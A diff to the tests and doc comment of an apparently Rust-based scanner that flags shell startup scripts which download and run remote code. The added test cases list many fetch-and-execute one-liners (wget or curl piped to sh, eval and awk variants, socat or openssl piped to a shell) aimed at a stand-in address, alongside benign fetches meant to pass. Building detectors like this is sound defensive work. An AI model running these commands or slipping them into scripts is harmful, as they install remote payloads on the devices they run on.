@@ -11,11 +11,11 @@
 //!
 //! # Misses and false alarms
 //! `suspicious` where the line is a text: in quotes that span lines, or in a here-document that is printed. Silent for
-//! what only saves or reads data: firmware updaters, ddns, acme, banip, adblock. Names are compared as text after
-//! variables that are set to plain text were followed, so a name that is computed is missed, and so are: a program
-//! fetched by one file and run by another; a fetcher called by a function or an alias; a fetch or a shell inside a
-//! loop or a condition that the pipe stands outside of (`while read l; do $l; done`); a file named by a pattern,
-//! `xargs`.
+//! what only saves or reads data: firmware updaters, ddns, acme, banip, adblock; and for data that a filter makes
+//! commands of (`awk '{print "ipset add x "$1}' | sh`). Names are compared as text after variables that are set to plain
+//! text were followed, so a name that is computed is missed, and so are: a program fetched by one file and run by
+//! another; a fetcher called by a function, an alias or `set --`; a fetch or a shell inside a loop or a condition that the
+//! pipe stands outside of, other than `while read l; do $l; done`; a file named by a pattern.
 //!
 //! # Sources
 //! POSIX.1-2017 Shell Command Language 2.9.2; wget(1), curl(1); BusyBox networking/{tftp,ftpgetput}.c; MITRE
@@ -93,6 +93,21 @@ mod tests {
             b"lua -e \"os.execute('wget -qO- http://192.0.2.1/x | sh')\"",
             b"python3 -c \"exec(urllib.request.urlopen('http://192.0.2.1/x').read())\"",
             b"wget http://192.0.2.1/x -O ${T:-/tmp/x}; sh /tmp/x",
+            b"wget http://192.0.2.1/x -P /tmp; sh /tmp/x",
+            b"eval \"wget -qO- http://192.0.2.1/x\" | sh",
+            b"sh -c \"eval 'wget -qO- http://192.0.2.1/x' | sh\"",
+            b"echo \"$(wget -qO- http://192.0.2.1/x)\" | sh",
+            b"curl -s http://192.0.2.1/c | while read -r l; do eval \"$l\"; done",
+            b"wget -qO- http://192.0.2.1/c | while read l; do $l; done",
+            b"wget -qO- http://192.0.2.1/x | awk '{print}' | sh",
+            b"wget -qO- http://192.0.2.1/x | awk '{print \"sh -c \" $0}' | sh",
+            b"wget -qO- http://192.0.2.1/x | sed 's/^/ /' | sh",
+            b"wget -qO- http://192.0.2.1/x | awk '{print \"cd /tmp; \"$0}' | sh",
+            b"wget -qO- http://192.0.2.1/x | sed 's/^/true; /' | sh",
+            b"socat - TCP:192.0.2.1:99 | sh",
+            b"openssl s_client -quiet -connect 192.0.2.1:443 | sh",
+            b"awk 'BEGIN { system(\"wget -qO- http://192.0.2.1/x | sh\") }'",
+            b"exec $(wget -O- http://192.0.2.1/x)",
         ] {
             assert_eq!(
                 startup(&CHECK, Kind::Shell, text),
@@ -105,6 +120,10 @@ mod tests {
         assert_eq!(startup(&CHECK, Kind::Shell, lines), [(4, Severity::Infected)]);
         let continued = b"wget -O- \\\n http://192.0.2.1/x \\\n | sh";
         assert_eq!(startup(&CHECK, Kind::Shell, continued), [(1, Severity::Infected)]);
+        let body = b"X=`wget -qO- http://192.0.2.1/x`\ncat > /usr/x <<E\n$X\nE\nsh /usr/x";
+        assert_eq!(startup(&CHECK, Kind::Shell, body), [(5, Severity::Infected)]);
+        let given = b"X=`wget -qO- http://192.0.2.1/x`\nsh <<E > /dev/null\n$X\nE\n";
+        assert_eq!(startup(&CHECK, Kind::Shell, given), [(3, Severity::Infected)]);
         let variables = b"D=/tmp/a\nU=http://192.0.2.1/x\nwget -O $D/b $U\nE=/tmp/a/b\nsh $E";
         assert_eq!(startup(&CHECK, Kind::Shell, variables), [(5, Severity::Infected)]);
         assert_eq!(
@@ -140,6 +159,18 @@ mod tests {
             b"wget http://192.0.2.1/x; sh /usr/bin/y",
             b"python3 -c \"import urllib.request;print(urllib.request.urlopen('http://192.0.2.1/x').read())\"",
             b"lua -e \"os.execute('wget -qO /tmp/x http://192.0.2.1/x')\"",
+            b"IP=$(eval \"curl -s $OPTIONS http://192.0.2.1/ip\")",
+            b"eval curl -s \"$URL\" > /tmp/ip",
+            b"sh -c \"wget -qO- http://192.0.2.1/ip\"",
+            b"R=`echo \"curl -d '$DATA' http://192.0.2.1/login\" | sh`",
+            b"case \"$(cat $F)\" in\n\"$(curl -s http://192.0.2.1/version)\") exit 0 ;;\nesac",
+            b": > $(wget -qO- http://192.0.2.1/name)",
+            b"curl -s http://192.0.2.1/list | sort | awk '{print \"ipset -! add x \"$1}' | sh",
+            b"wget -qO- http://192.0.2.1/list | sed 's/^/ipset add x /' | sh",
+            b"V=$(wget -qO- http://192.0.2.1/version)\ncat > /tmp/etc/version <<E\n$V\nE\n",
+            b"curl -s http://192.0.2.1/list | while read -r ip; do ipset add x $ip; done",
+            b"echo | openssl s_client -connect 192.0.2.1:443 2>/dev/null | openssl x509 -noout -dates",
+            b"awk 'BEGIN { while ((getline l < \"/tmp/x\") > 0) print l | \"sort\" }'",
         ] {
             assert_eq!(startup(&CHECK, Kind::Shell, text), [], "{}", String::from_utf8_lossy(text));
         }
